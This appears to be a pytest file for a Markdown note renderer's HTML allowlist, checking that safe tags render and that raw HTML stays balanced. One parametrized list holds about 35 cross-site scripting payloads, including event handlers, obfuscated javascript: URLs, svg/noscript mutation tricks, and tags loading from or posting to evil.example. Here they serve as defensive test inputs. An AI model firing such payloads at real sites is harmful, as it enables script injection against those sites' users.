"""Raw HTML in a note renders through an allowlist, as Obsidian and documentation sites show it
(``<ruby>``, ``<br>``, ``<sub>``, ``<kbd>``, ``<details>``, ``<figure>``), and nothing in it ever
runs: hostile markup (handlers, ``javascript:`` addresses, nested and broken tags) is written
anew without it."""

from __future__ import annotations

import pytest

from knowledge_assets.api.markdown import render_note
from knowledge_assets.core.links.resolve import NoteLinks
from tests.test_note_markdown import assert_inert

NOTES = [("local", "docs/reference/jsx/README.md"), ("local", "docs/x.md")]


def render(text: str) -> str:
    return render_note(text, NoteLinks("docs/x.md", lambda: NOTES))


@pytest.mark.parametrize(
    ("markdown", "expected"),
    [
        (
            "<ruby>ESLint<rt>イーエスリント</rt></ruby>",
            "<ruby>ESLint<rt>イーエスリント</rt></ruby>",
        ),
        ("一行<br>二行 H<sub>2</sub>O x<sup>2</sup>", "一行<br>二行 H<sub>2</sub>O x<sup>2</sup>"),
        ("<kbd>Ctrl</kbd>+<kbd>C</kbd>", "<kbd>Ctrl</kbd>+<kbd>C</kbd>"),
        (
            "<details><summary>続き</summary>\n\n本文 **太字**\n\n</details>",
            "<details><summary>続き</summary>\n<p>本文 <strong>太字</strong></p>\n</details>",
        ),
        (
            '<figure>\n<img src="https://example.com/a.png" alt="図" width="200">\n<figcaption>説明</figcaption>\n</figure>',
            '<img src="https://example.com/a.png" alt="図" width="200" loading="lazy" />\n<figcaption>説明</figcaption>',
        ),
        (
            '<figure><img src="/img/a.png" alt="図"></figure>',  # a docs site's /img/: not here
            '<figure><span class="image-missing">画像はボールトにありません: a.png<span class="image-alt">図</span></span></figure>',
        ),
        (
            '<a href="/reference/jsx">JSX</a>',
            '<a href="/notes/docs/reference/jsx/README.md">JSX</a>',
        ),
        (
            '<a href="https://e.com">e</a>',
            '<a rel="noopener noreferrer" href="https://e.com">e</a>',
        ),
        ("<table><tr><td colspan=2>a</td></tr></table>", '<td colspan="2">a</td>'),
        ("<h1>大見出し</h1>", "<h2>大見出し</h2>"),  # one level down, as Markdown headings
        (
            '<abbr title="TypeScript">TS</abbr> &amp; 1 &lt; 2',
            '<abbr title="TypeScript">TS</abbr> &amp; 1 &lt; 2',
        ),
        ("<blink>点滅</blink>", "&lt;blink&gt;点滅&lt;/blink&gt;"),  # not on the list: text
        ("<head>\n<title>題</title>\n</head>\n\n本文", "<p>本文</p>"),  # left out, text and all
        ("前 <title>題</title> 後", "<p>前  後</p>"),
        ("前 <script>alert(1)</script> 後", "<p>前  後</p>"),
        # Left open inside a link or emphasis: the link stayed open and every later paragraph
        # became part of it (or the render failed with a 500).
        (
            "See [the <select> element](https://e.com) on MDN.\n\nNext.",
            '<p>See <a href="https://e.com" rel="noopener noreferrer">the </a> on MDN.</p>\n<p>Next.</p>',
        ),
        (
            "**Never use <textarea> here** and more.\n\nNext.",
            "<p><strong>Never use </strong> and more.</p>\n<p>Next.</p>",
        ),
        ("[<title> タグのまとめ](../README.md)", '<span class="wikilink missing"'),
        # A <div> or <details> left open in a callout ends with its box: the rest of the note
        # went into the box, or was folded away with it.
        (
            "> [!warning] 注意\n> <div>\n> 囲み\n\n後の段落",
            "<div>\n囲み\n</div></div>\n<p>後の段落</p>",
        ),
        (
            "> [!faq]- 問\n> <details><summary>s</summary>\n> 中\n\n後",
            "中\n</details></details>\n<p>後</p>",
        ),
        ("- <div>項目\n- 次\n\n後", "<div>項目\n</div></li>"),
        (
            '<iframe src="https://www.youtube.com/embed/x"></iframe>',
            '<a href="https://www.youtube.com/embed/x" rel="noopener noreferrer">埋め込み: https://www.youtube.com/embed/x</a>',
        ),
        ("<!-- c -->\n<b>太字</b>", "<p><b>太字</b></p>"),
        ("<!DOCTYPE html>", "<p>&lt;!DOCTYPE html&gt;</p>"),
    ],
)
def test_html_of_the_allowlist_renders(markdown: str, expected: str) -> None:
    assert expected in render(markdown)


@pytest.mark.parametrize(
    "markdown",
    [
        "<script>alert(1)</script>",
        "<script src=https://evil.example/x.js></script>",
        "<style>body { display: none }</style>",
        '<iframe src="javascript:alert(1)"></iframe>',
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        "<object data=x.swf></object><embed src=x.swf>",
        '<img src=x onerror="alert(1)">',
        '<img src="javascript:alert(1)">',
        '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
        '<b onmouseover="alert(1)" style="position:fixed" class="wikilink" id="q">b</b>',
        '<a href="javascript:alert(1)">x</a>',
        '<a href="JaVaScRiPt:alert(1)">x</a>',
        '<a href=" javascript:alert(1)">x</a>',
        '<a href="java\tscript:alert(1)">x</a>',
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
        '<a href="&#106;avascript:alert(1)">x</a>',
        '<a href="vbscript:msgbox">x</a>',
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        '<details open ontoggle="alert(1)"><summary>s</summary></details>',
        "<svg><script>alert(1)</script></svg>",
        "<svg/onload=alert(1)>",
        '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        "<scr<script>ipt>alert(1)</script>",
        '<a href="x" <img src=x onerror=alert(1)>>y</a>',
        "<form action=https://evil.example><input name=q></form>",
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
        '<base href="https://evil.example/">',
        '<link rel=stylesheet href="https://evil.example/x.css">',
        '<div style="background:url(javascript:alert(1))">x</div>',
        '<p title="a&quot; onmouseover=&quot;alert(1)">x</p>',
        "<ruby>a<rt onclick=alert(1)>b</rt></ruby>",
        "<template><script>alert(1)</script></template>",
        '| a |\n|---|\n| <b onmouseover="alert(1)">b</b> |',
        "<img src=x.png onerror=alert(1)>",
    ],
)
def test_hostile_html_never_runs(markdown: str) -> None:
    html = render(markdown)
    assert_inert(html)
    for tag in ("<meta", "<base", "<link", "<input", "<svg", "<math", "style=", "<template"):
        assert tag not in html.lower(), html
    assert 'id="q"' not in html and "wikilink" not in html  # no page element named by a note


def test_a_title_attribute_cannot_break_out_of_its_quotes() -> None:
    html = render('<p title="a&quot; onmouseover=&quot;alert(1)">x</p>')
    assert html == '<p title="a&quot; onmouseover=&quot;alert(1)">x</p>'


@pytest.mark.parametrize("declaration", ["<![x[ ]]>", "<![ a"])
def test_html_the_parser_cannot_read_shows_as_text_and_the_rest_still_renders(
    declaration: str,
) -> None:
    """Python 3.11's HTML parser asserts on some declarations: the note view must not fail."""
    html = render_note(f"<div>\n{declaration}\n</div>\n\n後の段落", NoteLinks("a.md", lambda: []))
    assert "&lt;div&gt;" in html and "<p>後の段落</p>" in html


@pytest.mark.parametrize(
    ("markdown", "expected"),
    [
        # a close that matches nothing the note opened is dropped: the callout box stays whole
        ("> [!tip] T\n> x </div> y", '<p class="callout-title">T</p>\n<p>x  y</p>\n</div>'),
        # what the note leaves open is closed where it ends
        ("<details>\n\n中身", "<details>\n<p>中身</p>\n</details>"),
        ("<div/>後", "<div></div>後"),
        ("<kbd>Ctrl</kbd> と <b>太字</b>", "<p><kbd>Ctrl</kbd> と <b>太字</b></p>"),
        ("<div>\n<span>a\n</div>", "<div>\n<span>a\n</span></div>"),
        # an element a paragraph opens is closed where the paragraph ends: the rest is not bold
        ("<b>太字\n\n次の段落", "<p><b>太字</b></p>\n<p>次の段落</p>"),
        ("- a <span>b\n- c", "<li>a <span>b</span></li>\n<li>c</li>"),
        ("<div>\n\n中 <b>x\n\n後\n\n</div>", "<div>\n<p>中 <b>x</b></p>\n<p>後</p>\n</div>"),
        ("<kbd>C\n\n次</kbd>", "<p><kbd>C</kbd></p>\n<p>次</p>"),  # a later close: dropped
        # one that closes an element opened before it first still closes what it opens after
        ("<div>\n\n中 </div> <b>x\n\n後", "<p>中 </div> <b>x</b></p>\n<p>後</p>"),
        ("<div>\n\n中 </div><i>a</i> <b>x\n\n後", "<i>a</i> <b>x</b></p>\n<p>後</p>"),
    ],
)
def test_a_notes_raw_html_stays_balanced(markdown: str, expected: str) -> None:
    html = render_note(markdown, NoteLinks("a.md", lambda: []))
    assert expected in html
    assert html.count("<div") == html.count("</div>")


def test_an_embedded_notes_unclosed_html_stays_inside_its_box() -> None:
    embedded = {"inner.md": "<details>\n\n開いたまま\n\n</div></div>"}
    links = NoteLinks("a.md", lambda: [("local", p) for p in ("a.md", "inner.md")])
    html = render_note("前\n\n![[inner]]\n\n後の段落", links, lambda note: embedded.get(note.path))
    box = html[html.index('<div class="embed">') :]
    # the embedded note's stray </div>s are dropped, its <details> closed inside the box
    assert box.endswith("<details>\n<p>開いたまま</p>\n</details></div>\n<p>後の段落</p>\n")


def test_unclosed_elements_nest_at_most_64_deep() -> None:
    html = render_note("<b>" * 100 + "深い", NoteLinks("a.md", lambda: []))
    assert html.count("<b>") == html.count("</b>") == 64 and "深い" in html
